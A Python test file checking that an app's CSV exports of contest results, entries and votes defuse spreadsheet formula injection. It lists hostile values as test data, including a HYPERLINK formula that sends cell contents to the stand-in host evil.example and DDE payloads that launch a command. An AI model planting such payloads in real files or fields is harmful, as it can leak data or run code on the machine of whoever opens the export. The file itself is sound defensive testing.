"""CSV exports cannot carry a formula into a coordinator's spreadsheet, whatever uploaders,
jurors and coordinators typed into titles, usernames, comments and reasons."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.core.config import Settings
from tests.factories import (
    make_campaign,
    make_entry,
    make_round,
    make_round_entry,
    make_task,
    make_user,
    make_vote,
)
from tests.helpers import login

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_round(session: Session):
    coordinator = make_user(session)
    campaign = make_campaign(session, coordinators=(coordinator,), slug="hostile")
    jurors = [make_user(session, username=value) for value in HOSTILE]
    round_ = make_round(
        session, campaign=campaign, jurors=tuple(jurors), status="active", vote_method="rating"
    )
    for n, value in enumerate(HOSTILE):
        entry = make_entry(
            session,
            title=f"File:{n}.jpg" if value[0] in "\t\r" else value,
            uploader=value,
            latest_uploader=value,
            license=value,
        )
        placed = make_round_entry(session, round=round_, entry=entry)
        task = make_task(session, round=round_, juror=jurors[n], round_entry=placed)
        make_vote(session, task=task, value=1 + n % 5, comment=value)
    # A disqualified entry, whose coordinator-typed reason is exported too.
    gone = make_round_entry(session, round=round_, entry=make_entry(session))
    gone.dq_code, gone.dq_reason = "manual", HOSTILE[0]
    session.add(gone)
    session.commit()
    return coordinator, round_


@pytest.mark.parametrize(
    "export", ["results.csv", "entries.csv", "votes.csv?pseudonymize=false", "votes.csv"]
)
def test_no_exported_cell_starts_a_formula(
    client: TestClient, settings: Settings, hostile_round, export: str
):
    coordinator, round_ = hostile_round
    login(client, settings, coordinator)
    response = client.get(f"/api/rounds/{round_.id}/export/{export}")
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    # The hostile text is kept, behind the apostrophe that makes it plain text.
    neutralized = {cell for cell in cells if cell.startswith("'")}
    assert neutralized, "the hostile values should be in this export"
    assert neutralized <= {"'" + value for value in HOSTILE}
    if "pseudonymize=false" in export:
        assert {"'" + value for value in HOSTILE} <= neutralized  # usernames and comments
